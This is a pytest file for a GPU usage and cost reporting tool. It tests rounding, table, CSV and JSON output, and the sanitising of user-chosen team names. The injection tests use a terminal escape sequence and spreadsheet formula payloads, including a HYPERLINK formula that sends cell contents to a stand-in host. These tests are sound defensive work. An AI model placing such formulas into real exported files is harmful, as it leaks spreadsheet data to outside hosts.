"""How a sheet is written: rounded once, readable by people and by programs."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from gputally.report.columns import BUSY, COST, GPU_HOURS, JOBS, KEYS, KWH, MEAN, UNUSED, WHICH
from gputally.report.ranges import Range, read_range
from gputally.report.sheet import Amounts, Sheet, together
from gputally.report.shown import as_csv, as_json, as_table
from gputally.tables.text import rounded
from tests.report.conftest import RULES

WHOLE = Range(1_772_323_200, 1_772_409_600, ZoneInfo("Europe/Berlin"))  # from 1 March 2026, 01:00
ROWS = [
    {
        "team": "nlp",
        "kwh": Decimal("1234.5675"),
        "cost": Decimal("2.345"),
        "currency": "EUR",
        "gpu_hours": Decimal("8.125"),
        "utilization": Decimal("0.3335"),
        "jobs": Decimal(1200),
    },
    {"team": "nlp", "cost": Decimal("0.005"), "currency": "USD"},
    {
        "team": "",
        "kwh": Decimal("-0.0000001"),
        "cost": Decimal("2.355"),
        "currency": "EUR",
        "jobs": Decimal(0),
    },
]
TOTALS = [
    {"kwh": Decimal("1234.5674999"), "cost": Decimal("4.700"), "currency": "EUR", "jobs": Decimal(1200)},
    {"cost": Decimal("0.005"), "currency": "USD"},
]
COLUMNS = (KEYS["team"], KWH, COST, WHICH, GPU_HOURS, MEAN, JOBS)
SHEET = Sheet("teams", WHOLE, COLUMNS, ROWS, TOTALS, ("Take care.",))

TABLE = """\
teams: 2026-03-01 01:00 to 2026-03-02 01:00 Europe/Berlin

TEAM         KWH  COST       GPU HOURS  MEAN USE   JOBS
nlp    1,234.568  2.34  EUR       8.12    33.4 %  1,200
nlp            -  0.00  USD          -         -      -
-          0.000  2.36  EUR          -         -      0
-----  ---------  ----  ---  ---------  --------  -----
total  1,234.567  4.70  EUR          -         -  1,200
               -  0.00  USD          -         -      -

Totals are sums of unrounded amounts.
Note: Take care."""


@pytest.mark.parametrize(
    ("amount", "digits", "text"),
    [
        ("2.345", 2, "2.34"),
        ("2.355", 2, "2.36"),
        ("0.125", 2, "0.12"),
        ("0.1250000000000000000000000001", 2, "0.13"),
        ("-0.001", 2, "0.00"),
        ("1e3", 2, "1000.00"),
        ("123456789012345678901234567890.125", 2, "123456789012345678901234567890.12"),
    ],
)
def test_halves_go_to_the_even_digit(amount, digits, text):
    assert str(rounded(Decimal(amount), digits)) == text


def test_a_table_is_aligned_and_says_what_its_totals_are():
    assert as_table(SHEET) == TABLE


def test_a_page_of_a_table_says_that_there_is_more_and_that_totals_are_of_all():
    lines = as_table(SHEET.turned(1, 2)).splitlines()
    more = "Page 1 of 2, 3 rows in all; --page 2 shows more."
    assert f"{more} Totals are sums of unrounded amounts. They are of all rows." in lines
    assert any(line.startswith("total  1,234.567") for line in lines)
    last = as_table(SHEET.turned(2, 2))
    assert "Page 2 of 2, 3 rows in all. " in last
    assert last.count("nlp") == 0


def test_a_table_without_rows_says_so():
    text = as_table(Sheet("jobs", WHOLE, COLUMNS, [], (), ("No such job ran in this time.",)))
    assert text.splitlines()[2:] == ["Nothing.", "Note: No such job ran in this time."]


def test_csv_has_the_rows_and_nothing_else():
    rows = list(csv.reader(io.StringIO(as_csv(SHEET))))
    assert rows[0] == ["team", "kwh", "cost", "currency", "gpu_hours", "utilization", "jobs"]
    assert rows[1] == ["nlp", "1234.567500", "2.345000", "EUR", "8.125000", "0.333500", "1200"]
    assert rows[2] == ["nlp", "", "0.005000", "USD", "", "", ""]
    assert rows[3] == ["", "0.000000", "2.355000", "EUR", "", "", "0"]
    assert len(rows) == 4
    assert len(list(csv.reader(io.StringIO(as_csv(SHEET.turned(2, 2)))))) == 2


def test_json_has_rows_totals_and_what_must_be_known_of_them():
    document = json.loads(as_json(SHEET.turned(1, 2)), parse_float=Decimal)
    assert document["report"] == "teams"
    assert (document["from"], document["timezone"]) == ("2026-03-01T01:00:00+01:00", "Europe/Berlin")
    assert document["rows"][0] == {
        "team": "nlp",
        "kwh": Decimal("1234.5675"),
        "cost": Decimal("2.345"),
        "currency": "EUR",
        "gpu_hours": Decimal("8.125"),
        "utilization": Decimal("0.3335"),
        "jobs": 1200,
    }
    assert document["rows"][1]["kwh"] is None
    assert document["totals"][1] == {"cost": Decimal("0.005"), "currency": "USD"}
    assert (document["row_count"], document["page"], document["pages"]) == (3, 1, 2)
    assert document["notes"] == ["Totals are sums of unrounded amounts.", "Take care."]


def test_times_are_the_sites_and_say_so_to_programs():
    moment = datetime(2026, 3, 1, 12, 5, tzinfo=UTC).astimezone(WHOLE.zone)
    sheet = Sheet(
        "jobs", WHOLE, (KEYS["job_id"], KEYS["start"], KEYS["end"]), [{"job_id": "1", "start": moment}], ()
    )
    assert "1    2026-03-01 13:05  -" in as_table(sheet)
    assert as_csv(sheet).splitlines()[1] == "1,2026-03-01T13:05:00+01:00,"
    assert json.loads(as_json(sheet))["rows"][0] == {
        "job_id": "1",
        "start": "2026-03-01T13:05:00+01:00",
        "end": None,
    }


def test_names_that_would_drive_a_terminal_or_break_a_line_do_not():
    hostile = 'a\x1b[2Jb\nc,"d" ' + "x" * 100
    sheet = Sheet("teams", WHOLE, (KEYS["team"], KWH), [{"team": hostile, "kwh": Decimal(1)}], ())
    line = as_table(sheet).splitlines()[3]
    assert line.startswith('a?[2Jb?c,"d" xxx')
    assert len(line.split("…")[0]) == 39
    assert next(iter(csv.DictReader(io.StringIO(as_csv(sheet)))))["team"] == hostile
    assert json.loads(as_json(sheet))["rows"][0]["team"] == hostile


@pytest.mark.parametrize("name", ['=HYPERLINK("http://a.example/"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_name_is_no_formula_of_a_spreadsheet(name):
    """A user chooses it, and somebody in finance opens the file."""
    sheet = Sheet("teams", WHOLE, (KEYS["team"], KWH), [{"team": name, "kwh": Decimal(-1)}], ())
    (row,) = csv.DictReader(io.StringIO(as_csv(sheet), newline=""))
    assert row["team"] == f"'{name}"
    assert row["kwh"] == "-1.000000"
    assert json.loads(as_json(sheet))["rows"][0]["team"] == name


def test_a_carriage_return_ends_no_row():
    sheet = Sheet("teams", WHOLE, (KEYS["team"], KWH), [{"team": "a\r=1", "kwh": Decimal(1)}], ())
    (row,) = csv.DictReader(io.StringIO(as_csv(sheet), newline=""))
    assert (row["team"], row["kwh"]) == ("a =1", "1.000000")


def test_the_example_of_the_manual_is_what_is_printed():
    names = ("kwh", "cost", "gpu_hours", "busy_hours", "unused_hours", "unused_kwh", "unused_cost", "jobs")
    figures = {
        "nlp": ("8112.405", "2201.96", "17310.22", "13120.91", "4189.31", "411.870", "109.87", "412"),
        "vision": ("3020.118", "801.35", "6911.70", "5701.14", "1210.56", "118.002", "31.40", "1033"),
    }
    groups = {}
    for team, row in figures.items():
        groups[team,] = amounts = Amounts()
        for name, value in zip(names, row, strict=True):
            amounts.add(name, Decimal(value), "EUR" if "cost" in name else None)
    rows = [row for key, amounts in groups.items() for row in amounts.rows({"team": key[0]})]
    berlin = ZoneInfo("Europe/Berlin")
    march = read_range("2026-03", "", 1_800_000_000, berlin)
    columns = (KEYS["team"], KWH, COST, WHICH, GPU_HOURS, BUSY, MEAN, *UNUSED, JOBS)
    text = as_table(Sheet("teams", march, columns, rows, together(groups.values()).rows({})))
    assert f"```\n{text}\n```\n" in (RULES.parents[1] / "docs" / "report.md").read_text(), text
